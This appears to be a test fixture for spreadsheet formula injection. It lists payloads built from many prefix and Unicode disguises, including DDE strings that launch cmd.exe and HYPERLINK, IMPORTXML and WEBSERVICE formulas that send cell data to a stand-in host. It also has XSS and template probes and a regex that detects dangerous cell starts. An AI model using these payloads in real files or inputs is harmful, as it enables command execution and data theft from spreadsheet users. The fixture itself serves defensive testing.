const commands = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://elsewhere.example.com?x="&A1,"open")',
  'IMPORTXML(CONCAT("http://elsewhere.example.com?v=",A1),"//a")',
  'WEBSERVICE("http://elsewhere.example.com/"&A2)',
  'DDE("cmd";"/C calc";"x")',
  '1+1',
  'SUM(1+9)*cmd|" /C calc"!A0',
  '<script>alert(1)</script>',
]
const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\t',
  '\r',
  '＝',
  '＋',
  '－',
  '＠',
  '﹦',
  '−',
  ' =',
  '\u00a0=',
]
const disguises = ['\u200b=', '\ufeff=', "'=", '"=', "''+", '\u202e=', 'x;=', 'x;"=', 'x\t-', 'x\r\n@']
/** 8 x 27, and a few that are no formula but run elsewhere. */
export const payloads = [
  ...[...starts, ...disguises].flatMap((start) => commands.map((command) => start + command)),
  '"><img src=x onerror=alert(1)>',
  "';alert(1)//",
  '${7*7}',
  '{{7*7}}',
  '+44 7700 900123',
  '-5',
]

/** What no cell may begin with. */
export const trigger = /^[\s\p{Cc}\p{Cf}"]*[=+\-@＝＋－＠﹦﹢﹣﹫−]|^[\t\r\n]/u
